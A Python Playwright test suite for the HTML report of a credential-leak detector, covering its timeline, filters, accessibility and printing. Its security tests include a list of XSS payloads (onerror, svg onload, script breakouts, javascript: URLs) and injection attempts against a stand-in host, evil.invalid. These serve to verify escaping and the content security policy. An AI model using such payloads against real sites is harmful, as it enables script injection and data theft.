"""The report in a real Chromium: it tells the story, filters, zooms, prints, is accessible, and runs only itself."""

import json
import re  # over our own page
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any, Literal

import msgspec
import pytest
from playwright.async_api import Browser, Locator, Page, expect

from detector import cli
from detector.configuration.baseline import read_baseline
from detector.configuration.settings import Settings
from detector.judge.join_coverage import CoverageRow, CredentialExample, JoinCoverage, OldestTask
from detector.judge.rules.catalog import RULES
from detector.outputs.report import Report
from detector.outputs.report_page import report_page
from detector.outputs.summary import SourceRead, Summary
from detector.records.dead_letters import DeadLetter
from detector.values.errors import ConfigError
from detector.values.events import Identifier
from detector.values.findings import (
    LEAKED_CREDENTIAL,
    LEAKED_SECRET,
    OUTLIVES_TASK,
    USE_AFTER_TERMINATION,
    Finding,
    Severity,
)
from detector.values.times import HOUR, MINUTE
from tests.browser import Sight, opened, violations
from tests.outputs import finding_samples as made

pytestmark = pytest.mark.asyncio(loop_scope="session")
INCIDENT = Path(__file__).parents[2] / "examples" / "incident"


@pytest.fixture(scope="module")
def incident(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The report of the bundled incident, as the command writes it, without patterns (they take a while to compile)."""
    folder = tmp_path_factory.mktemp("report")
    key = INCIDENT / "demo-only.key"
    config = folder / "quick.toml"
    quick = '[patterns]\ndisable = ["*"]\ndetect_secrets = false\n[kinds.aws-session]\ngrace_period = "2h"\n'
    config.write_text(f'key_file = "{key}"\n{quick}')
    page = folder / "report.html"
    named = [str(INCIDENT / "events.jsonl"), str(INCIDENT / "logs")]
    assert cli.main(["replay", "--config", str(config), "--report", str(page), "--jobs", "1", *named]) == 0
    return page


def written(folder: Path, findings: list[Finding], **more: Any) -> Path:
    """The report of these findings, with a command, in a file."""
    summary = more.pop("summary", Summary(read=(SourceRead("ci.log", "text", 12, 3456),)))
    letters = more.pop("letters", ())
    commands = more.pop("commands", (made.command(),) if findings else ())
    report = Report(
        findings, commands, summary, made.PATTERNS, made.untouched, letters=letters, until=made.USED
    )
    path = folder / "report.html"
    path.write_bytes(report_page(report))
    return path


def damaged(page: Path, folder: Path) -> Path:
    """A copy of the page without some of its data."""
    path = folder / "damaged.html"
    path.write_text(re.sub(r'(id="report-data">.{100}).{40}', r"\1", page.read_text()))
    return path


@asynccontextmanager
async def looked_at(browser: Browser, path: Path, **options: Any) -> AsyncIterator[Sight]:
    """The report once it is shown; it must have asked for nothing and complained of nothing until it is closed."""
    async with opened(browser, path.as_uri(), **options) as sight:
        await expect(sight.page.locator("main")).to_have_attribute("aria-busy", "false")
        yield sight
        assert sight.complaints == []
        assert sight.asked == [path.as_uri()]


def status(page: Page) -> Locator:
    return page.get_by_role("search").get_by_role("status")


def readout(page: Page) -> Locator:
    return page.locator(".timeline .readout")


def cards(page: Page) -> Locator:
    return page.locator("details.finding")


async def open_all(page: Page) -> None:
    await page.evaluate("document.querySelectorAll('details').forEach((one) => { one.open = true; })")


async def test_it_tells_the_incident(browser: Browser, incident: Path) -> None:
    async with looked_at(browser, incident) as sight:
        page = sight.page
        await expect(page.get_by_role("heading", level=1)).to_have_text(
            "1 credential leaked into a log, 1 was used after its task had ended, "
            "1 was used after its revocation and 8 more findings."
        )
        await expect(page.locator(".lead")).to_contain_text(
            "Begin with task release-4711: 3 critical, 1 high."
        )
        assert await page.get_by_role("heading", level=2).all_inner_texts() == [
            "Timeline",
            "Findings",
            "To revoke",
            "What could be judged",
            "What was read",
        ]
        await expect(status(page)).to_have_text("All 11 findings, about 5 tasks")
        await expect(cards(page)).to_have_count(11)
        severities = [one.lower() for one in await cards(page).locator(".badge").all_inner_texts()]
        assert severities == sorted(severities, key=["critical", "high", "medium", "low"].index)
        for kind in ("bar", "life", "overstay", "mark.command, .timeline .mark.many"):
            assert await page.locator(f".timeline .{kind}").count() > 0, kind
        await expect(page.locator("#revoke tbody tr")).to_have_count(4)
        await expect(page.locator("#judged p")).to_have_text(
            "10 of 10 credentials have a task that started and ended."
        )
        await expect(page.locator("#judged table")).to_have_count(0)
        await expect(page.locator("#read")).to_contain_text("12 sources, 709 records")


async def test_a_finding_opens_with_its_evidence_place_advice_and_taxonomies(
    browser: Browser, incident: Path
) -> None:
    async with looked_at(browser, incident) as sight:
        card = cards(sight.page).filter(has_text="was printed, in base64")
        await expect(card.locator(".inside")).to_have_count(0)
        await card.locator("summary").focus()
        await sight.page.keyboard.press("Enter")
        inside = card.locator(".inside")
        await expect(inside).to_contain_text("Revoke it and issue a new one to the task")
        await expect(inside.locator("mark")).to_have_text(re.compile(r"^‹known-credential:\d+›$"))
        await expect(inside).to_contain_text("release-4711.log line 34 · encoded: base64")
        await expect(inside).to_contain_text("MITRE ATT&CK T1552 Unsecured Credentials")
        await expect(inside).to_contain_text("Owner")


@pytest.mark.parametrize(
    "permissions", [["clipboard-read", "clipboard-write"], []], ids=["copied", "selected"]
)
async def test_a_finding_is_accepted_by_a_line_that_is_copied(
    browser: Browser, incident: Path, tmp_path: Path, permissions: list[str]
) -> None:
    async with looked_at(browser, incident) as sight:
        page = sight.page
        await page.context.grant_permissions(permissions)
        card = page.locator("details.finding").first
        await card.locator("summary").first.click()
        await card.get_by_text("Accept this finding").click()
        line, entry = await card.locator("details.accept pre").all_inner_texts()
        await card.get_by_role("button", name="Copy").first.click()
        told = card.locator("details.accept").get_by_role("status").first
        if permissions:
            await expect(told).to_contain_text("Copied")
            assert await page.evaluate("navigator.clipboard.readText()") == f"{line.strip()}\n"
        else:
            await expect(told).to_contain_text(re.compile("Copied|Selected"))
    uid = json.loads(line)["uid"]
    baseline, config = tmp_path / "baseline.jsonl", tmp_path / "curfewd.toml"
    baseline.write_text(line)
    config.write_text(entry)
    with pytest.raises(ConfigError, match="reason: "):
        read_baseline(str(baseline))
    baseline.write_text(line.replace('"reason":""', '"reason":"why"').replace('"by":""', '"by":"ann"'))
    (known,) = read_baseline(str(baseline))
    config.write_text(entry.replace('reason = ""', 'reason = "why"'))
    (accept,) = Settings.load(str(config), {}).policy.accepts
    assert (known.uid, accept.uid) == (uid, uid)
    assert accept.severity == Severity.of(known.severity)


async def test_a_secret_without_a_lasting_uid_is_not_offered_to_be_accepted(
    browser: Browser, tmp_path: Path
) -> None:
    leaks = [made.finding(LEAKED_SECRET, fingerprint=name, key=name) for name in ("unkeyed-1", "ab" * 32)]
    async with looked_at(browser, written(tmp_path, leaks)) as sight:
        for card in await sight.page.locator("details.finding").all():
            await card.locator("summary").first.click()
        await expect(sight.page.locator("details.accept")).to_have_count(1)


async def test_filters_leave_what_they_say(browser: Browser, incident: Path) -> None:
    async with looked_at(browser, incident) as sight:
        page = sight.page
        high = page.get_by_role("button", name="High")
        await high.click()
        await expect(high).to_have_attribute("aria-pressed", "true")
        assert set(await cards(page).locator(".badge").all_inner_texts()) == {"High"}
        await page.get_by_role("combobox").select_option("outlives-task")
        count = await cards(page).count()
        assert 0 < count < 11
        await expect(status(page)).to_contain_text(f"{count} of 11 findings")

        await page.get_by_role("button", name="Clear").click()
        await expect(cards(page)).to_have_count(11)
        await expect(high).to_have_attribute("aria-pressed", "false")

        await page.get_by_role("searchbox").fill("WAREHOUSE/SALES/part-23")
        await expect(cards(page)).to_have_count(1)
        assert await page.locator(".timeline .labels .task").all_text_contents() == ["export-sales-us"]
        await page.get_by_role("searchbox").fill("no such thing")
        await expect(page.locator("#findings")).to_contain_text("No finding matches.")


async def test_a_task_is_chosen_and_let_go_again(browser: Browser, incident: Path) -> None:
    async with looked_at(browser, incident) as sight:
        page = sight.page
        await page.locator(".timeline .labels .task", has_text="release-4711").click()
        await expect(status(page)).to_have_text("4 of 11 findings, about 1 task")
        await expect(page.locator(".timeline .labels .task")).to_have_count(1)
        await page.get_by_role("button", name="Task release-4711").click()
        await expect(cards(page)).to_have_count(11)


async def test_the_timeline_zooms_and_moves_by_button_key_and_wheel(browser: Browser, incident: Path) -> None:
    async with looked_at(browser, incident) as sight:
        page = sight.page
        await expect(readout(page)).to_contain_text("–")
        whole = await readout(page).inner_text()
        await page.get_by_role("button", name="Zoom in").click()
        await expect(readout(page)).not_to_have_text(whole)
        once = await readout(page).inner_text()
        await page.get_by_role("group", name="Timeline of the tasks with findings", exact=True).focus()
        await page.keyboard.press("ArrowRight")
        await expect(readout(page)).not_to_have_text(once)
        await page.keyboard.press("0")
        await expect(readout(page)).to_have_text(whole)
        box = await page.locator(".timeline .chart").bounding_box()
        assert box is not None
        await page.mouse.move(box["x"] + box["width"] / 2, box["y"] + box["height"] / 2)
        await page.keyboard.down("Control")
        await page.mouse.wheel(0, -300)
        await page.keyboard.up("Control")
        await expect(readout(page)).not_to_have_text(whole)
        await page.get_by_role("button", name="Show the whole time").click()
        await expect(readout(page)).to_have_text(whole)


async def test_several_marks_are_one_with_their_number_until_it_is_zoomed_into(
    browser: Browser, incident: Path
) -> None:
    async with looked_at(browser, incident) as sight:
        many = sight.page.locator(".timeline .mark.many")
        numbers = await many.all_inner_texts()
        before = await readout(sight.page).inner_text()
        await many.first.click()
        await expect(readout(sight.page)).not_to_have_text(before)
        assert await many.all_inner_texts() != numbers


async def test_the_timeline_is_a_table_too_whose_moments_lead_to_findings(
    browser: Browser, incident: Path
) -> None:
    async with looked_at(browser, incident) as sight:
        page = sight.page
        await page.get_by_role("button", name="Show the timeline as a table").click()
        table = page.get_by_role("group", name="as a table").get_by_role("table")
        for text in ("Task started", "Task ended", "Credential issued", "Revocation asked for"):
            await expect(table.get_by_role("cell", name=text).first).to_be_visible()
        assert await violations(page) == ""
        await table.get_by_role("button", name="Shown in a log").first.click()
        await expect(cards(page).and_(page.locator("[open]"))).to_have_count(1)
        assert await page.evaluate("document.activeElement.tagName") == "SUMMARY"


def dead() -> list[Finding]:
    """A leak of a credential that the revoker proved dead at the time of its last event."""
    proved = made.resolution()
    credential = msgspec.structs.replace(made.CREDENTIAL, revoked=proved.time)
    return [made.finding(LEAKED_CREDENTIAL, credential=credential, resolution=proved)]


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [1280, 360])
async def test_a_line_ends_where_its_credential_was_proved_dead_and_says_by_what(
    browser: Browser, tmp_path: Path, scheme: Literal["light", "dark"], width: int
) -> None:
    asked = made.command(reasons=(LEAKED_CREDENTIAL,), time=made.ISSUED + MINUTE)
    path = written(tmp_path, dead(), commands=(asked,))
    async with looked_at(browser, path, scheme=scheme, width=width) as sight:
        page = sight.page
        chart = page.locator(".timeline .chart")
        mark = chart.locator(".mark.dead")
        await expect(mark).to_have_count(1)
        await expect(chart.locator(".mark.revoked")).to_have_count(0)  # the same moment twice is no news
        life, end = await chart.locator(".life").bounding_box(), await mark.bounding_box()
        assert life is not None
        assert end is not None
        # Half a second after the leak: beside the mark of leak and command, not under it.
        assert 0 <= end["x"] + end["width"] / 2 - life["x"] - life["width"] < 25
        await expect(page.locator(".legend")).to_contain_text("proved dead")
        await mark.hover()
        said = (
            "Proved dead at vault: worked before, refused after; revoked the accessor; approved by alice, bob"
        )
        await expect(chart.locator(".tip")).to_contain_text(said)
        await page.get_by_role("button", name="Show the timeline as a table").click()
        table = page.get_by_role("group", name="as a table").get_by_role("table")
        await expect(table.get_by_role("cell", name=said)).to_be_visible()
        await open_all(page)
        inside = cards(page).locator(".inside")
        for pair in ("Wherevault", "How it is knownworked before", "approved by alice, bob"):
            await expect(inside).to_contain_text(pair)
        await expect(page.locator("#revoke")).to_contain_text("Proved dead 2026-03-14")
        await expect(page.locator(".lead")).to_have_count(0)  # there is no credential to revoke
        assert await violations(page) == ""
        assert await page.evaluate("document.documentElement.scrollWidth") == width


@pytest.mark.parametrize("named", [True, False], ids=["the command names it", "it came later"])
async def test_a_credential_of_which_a_finding_stands_is_still_to_be_revoked(
    browser: Browser, tmp_path: Path, *, named: bool
) -> None:
    findings = [*dead(), made.finding(USE_AFTER_TERMINATION)]
    asked = made.command(reasons=(LEAKED_CREDENTIAL, *((USE_AFTER_TERMINATION,) if named else ())))
    async with looked_at(browser, written(tmp_path, findings, commands=(asked,))) as sight:
        await expect(sight.page.locator(".lead")).to_contain_text("1 credential to revoke.")
        await expect(sight.page.locator("#revoke")).not_to_contain_text("Proved dead")


@pytest.mark.parametrize("scheme", ["light", "dark"])
async def test_axe_finds_nothing(browser: Browser, tmp_path: Path, scheme: str) -> None:
    letters = [DeadLetter("ci.log", "not-json", "it is no JSON", line=3)]
    summary = Summary(
        read=(SourceRead("ci.log", "text", 12, 3456),), dead_letters={"not-json": 1}, warnings=("no key",)
    )
    path = written(tmp_path, made.all_rules(), letters=letters, summary=summary)
    async with looked_at(browser, path, scheme=scheme) as sight:
        await expect(cards(sight.page)).to_have_count(len(RULES))
        await open_all(sight.page)
        await expect(cards(sight.page).locator(".inside")).to_have_count(len(RULES))
        assert await violations(sight.page) == ""
        ground = await sight.page.evaluate("getComputedStyle(document.body).backgroundColor")
        assert (ground == "rgb(255, 255, 255)") is (scheme == "light")


async def test_on_a_phone_nothing_is_wider_than_the_screen(browser: Browser, incident: Path) -> None:
    async with looked_at(browser, incident, width=360, height=740) as sight:
        assert await sight.page.evaluate("document.documentElement.scrollWidth") == 360
        assert await violations(sight.page) == ""


HOSTILE = (
    "<img src=x onerror='window.owned=1'>",
    "</script><script>window.owned=1</script>",
    "'\"><svg onload=window.owned=1>",
    "javascript:window.owned=1",
    "<!--<script>",
    "${window.owned=1}",
    "__proto__",
)


@pytest.mark.parametrize("text", HOSTILE)
async def test_hostile_text_stays_text(browser: Browser, tmp_path: Path, text: str) -> None:
    async with looked_at(browser, written(tmp_path, hostile(text), **hostile_reading(text))) as sight:
        page = sight.page
        await expect(cards(page)).to_have_count(3)
        await expect(page.locator(".timeline .mark").first).to_be_attached()
        await open_all(page)
        await page.get_by_role("button", name="Show the timeline as a table").click()
        await page.get_by_role("searchbox").fill(text)
        await expect(page.get_by_role("button", name="Clear")).to_be_enabled()
        await expect(status(page)).to_have_text("All 3 findings, about 1 task")
        for mark in await page.locator(".timeline .chart .mark").all():
            await mark.dispatch_event("pointerenter")
        shown = await page.locator("body").inner_text()
        assert shown.count(text) > 25
        assert await page.evaluate("window.owned") is None
        assert await page.evaluate("Object.prototype.owned") is None
        strangers = (
            "main img, main script, main iframe, main object, main style, main a[href^='java'], svg[onload]"
        )
        await expect(page.locator(strangers)).to_have_count(0)


def hostile(text: str) -> list[Finding]:
    """Findings with this text in every place that an input can fill."""
    task = msgspec.structs.replace(
        made.TASK, task_id=text, kind=text, owner=text, workload=text, parent_task_id=text
    )
    credential = msgspec.structs.replace(
        made.CREDENTIAL,
        credential_id=text,
        task_id=text,
        kind=text,
        identifiers=(Identifier(text, text),),
        revocation={text: text},
    )
    use = made.use(
        source=text, id=text, credential_id=text, action=text, resource=text, workload=text, user_agent=text
    )
    leak = made.leak(source=text, id=text, excerpt=text, task_id=text, stream=text, encodings=(text,))
    known = {"task": task, "credential": credential, "key": text}

    def finding(rule: str, event: Any, **fields: Any) -> Finding:
        piece = msgspec.structs.replace(made.evidence_of(rule), event=event, detail=text)
        return made.finding(rule, evidences=(piece,), **fields)

    return [
        finding(USE_AFTER_TERMINATION, use, **known),
        finding(LEAKED_CREDENTIAL, leak, **known),
        finding(LEAKED_SECRET, leak, task=task, patterns=(text,), fingerprint=text),
    ]


def hostile_reading(text: str) -> dict[str, Any]:
    counts = {text: 3}
    summary = Summary(
        read=(SourceRead(text, text, 1, 2),),
        events=counts,
        unresolved=counts,
        dead_letters=counts,
        allowed=counts,
        warnings=(text,),
    )
    return {"summary": summary, "letters": [DeadLetter(text, text, text, text, 1)]}


async def test_the_policy_stops_what_would_be_slipped_in(browser: Browser, incident: Path) -> None:
    async with opened(browser, incident.as_uri()) as sight:
        failures: dict[str, str | None] = {}
        sight.page.on("requestfailed", lambda request: failures.update({request.url: request.failure}))
        stopped = await sight.page.evaluate("""() => new Promise((done) => {
            const seen = new Set();
            const tell = () => done([...seen].sort());
            setTimeout(tell, 10000);
            document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
                if (seen.add(effectiveDirective).size === 7) tell();
            });
            const add = (tag, properties) => document.body.append(Object.assign(document.createElement(tag), properties));
            for (const attempt of [
                () => add("script", { textContent: "window.owned = 1" }),
                () => add("script", { src: "https://evil.invalid/a.js" }),
                () => document.body.insertAdjacentHTML("beforeend", "<p onclick='window.owned = 1'>"),
                () => document.body.setAttribute("onclick", "window.owned = 1"),
                () => setTimeout("window.owned = 1"),
                () => add("a", { href: "javascript:window.owned = 1" }),
                () => document.body.lastChild.click(),
                () => add("img", { src: "https://evil.invalid/a.png" }),
                () => add("style", { textContent: "body { display: none }" }),
                () => add("iframe", { src: "https://evil.invalid/" }),
                () => fetch("https://evil.invalid/").catch(() => {}),
                () => add("form", { action: "https://evil.invalid/" }),
                () => document.body.lastChild.submit(),
            ]) try { attempt(); } catch { /* what is stopped throws */ }
        })""")
        assert stopped == [
            "connect-src",
            "form-action",
            "frame-src",
            "img-src",
            "require-trusted-types-for",
            "script-src-elem",
            "style-src-elem",
        ]
        assert await sight.page.evaluate("window.owned") is None
        assert {url: failures.get(url) for url in sight.asked if not url.startswith("file:")} == {
            "https://evil.invalid/a.png": "csp"
        }


async def test_on_paper_every_finding_is_open_and_afterwards_closed_again(
    browser: Browser, incident: Path
) -> None:
    async with looked_at(browser, incident) as sight:
        page = sight.page
        await page.emulate_media(media="print")
        await page.evaluate("dispatchEvent(new Event('beforeprint'))")
        await expect(cards(page).locator(".inside")).to_have_count(11)
        await expect(page.locator("#search")).to_be_hidden()
        await expect(page.locator("#read table")).to_be_visible()
        await page.evaluate("dispatchEvent(new Event('afterprint'))")
        await expect(cards(page).locator(".inside")).to_have_count(0)
        assert (await page.pdf()).startswith(b"%PDF")


async def test_pages_of_findings_and_tasks_are_turned(browser: Browser, tmp_path: Path) -> None:
    findings = [
        made.finding(
            USE_AFTER_TERMINATION,
            key=f"cred-{number}",
            first_seen=made.USED + number * MINUTE,
            task=msgspec.structs.replace(
                made.TASK, task_id=f"task-{number:03}", started=made.ISSUED - number * HOUR
            ),
            credential=msgspec.structs.replace(made.CREDENTIAL, credential_id=f"cred-{number}"),
        )
        for number in range(120)
    ]
    async with looked_at(browser, written(tmp_path, findings)) as sight:
        page = sight.page
        await expect(cards(page)).to_have_count(50)
        await expect(page.locator("#findings .pager")).to_contain_text("Findings 1 to 50 of 120")
        for _ in range(2):
            await page.locator("#findings .pager").get_by_role("button", name="Next").click()
        await expect(page.locator("#findings .pager")).to_contain_text("Findings 101 to 120 of 120")
        await expect(cards(page)).to_have_count(20)
        await expect(page.locator("#findings-title")).to_be_focused()
        whole = await readout(page).inner_text()
        await page.get_by_role("button", name="Next tasks").click()
        await expect(page.locator(".timeline .labels .task").first).to_have_text("task-015")
        await page.get_by_role("button", name="Zoom to the tasks shown").click()
        await expect(readout(page)).not_to_have_text(whole)


async def test_a_task_is_drawn_by_all_that_any_finding_knows_of_it(browser: Browser, tmp_path: Path) -> None:
    findings = [made.finding(LEAKED_SECRET), made.finding(OUTLIVES_TASK)]
    async with looked_at(browser, written(tmp_path, findings)) as sight:
        await expect(sight.page.locator(".timeline .labels .task")).to_have_text(["release-4711"])
        await expect(sight.page.locator(".timeline .chart .bar")).to_have_count(1)


NOT_JUDGED = JoinCoverage(
    (
        CoverageRow(
            "aws.cloudtrail",
            "aws-session",
            "candidates-overdue",
            "role `deploy`: session name `GitHubActions` names no job",
            47,
            (CredentialExample("ASIAEXAMPLE1", "github:org/shop"),),
            OldestTask(made.USED - HOUR, "github/job/71"),
        ),
        CoverageRow("vault", "vault-token", "unreported", "<img src=x onerror=alert(1)>", 2),
        CoverageRow("vault", "vault-token", "ended", "", 39),
    )
)


async def test_what_could_not_be_judged_is_told_and_is_no_all_clear(browser: Browser, tmp_path: Path) -> None:
    summary = Summary(coverage=NOT_JUDGED)
    async with looked_at(browser, written(tmp_path, [], summary=summary)) as sight:
        heading = sight.page.get_by_role("heading", level=1)
        await expect(heading).to_have_text("Nothing found, but 49 of 88 credentials could not be judged.")
        rows = sight.page.locator("#judged tbody tr")
        await expect(rows).to_have_count(2)
        await expect(rows.first).to_have_text(
            re.compile(
                r"^47 AWS sessions of aws\.cloudtrailRole `deploy`: session name `GitHubActions` names no job, and .*"
                r"\(the oldest: github/job/71, since 2026-.*\): is a webhook lost\?.*ASIAEXAMPLE1 \(group github:org/shop\)$"
            )
        )
        await expect(rows.last).to_contain_text("<img src=x onerror=alert(1)>")
        await expect(sight.page.get_by_role("link", name="why")).to_have_count(0)


async def test_beside_findings_a_line_leads_to_what_could_not_be_judged(
    browser: Browser, tmp_path: Path
) -> None:
    page = written(tmp_path, [made.finding(LEAKED_SECRET)], summary=Summary(coverage=NOT_JUDGED))
    async with looked_at(browser, page, width=1100, height=1400) as sight:
        line = sight.page.locator("p.lead", has_text="49 credentials could not be judged")
        await expect(line).to_be_visible()
        assert await line.get_by_role("link").get_attribute("href") == "#judged"
        assert await violations(sight.page) == ""


async def test_nothing_found_is_said(browser: Browser, tmp_path: Path) -> None:
    async with looked_at(browser, written(tmp_path, [])) as sight:
        await expect(sight.page.get_by_role("heading", level=1)).to_have_text("Nothing found.")
        await expect(sight.page.locator("#timeline")).to_be_hidden()
        await expect(sight.page.locator("#findings")).to_contain_text("No findings.")
        await expect(sight.page.locator("#revoke")).to_contain_text("No credential has to be revoked.")
        assert await violations(sight.page) == ""


async def test_a_damaged_page_says_so(browser: Browser, incident: Path, tmp_path: Path) -> None:
    async with looked_at(browser, damaged(incident, tmp_path)) as sight:
        await expect(sight.page.locator("main")).to_contain_text("The report cannot be shown")


async def test_without_scripts_there_is_the_headline_and_where_to_find_the_rest(
    browser: Browser, incident: Path
) -> None:
    async with await browser.new_context(java_script_enabled=False) as context:
        page = await context.new_page()
        await page.goto(incident.as_uri())
        await expect(page.get_by_role("heading", level=1)).to_contain_text("1 credential leaked into a log")
        await expect(page.locator("noscript p")).to_contain_text("findings.jsonl has everything")
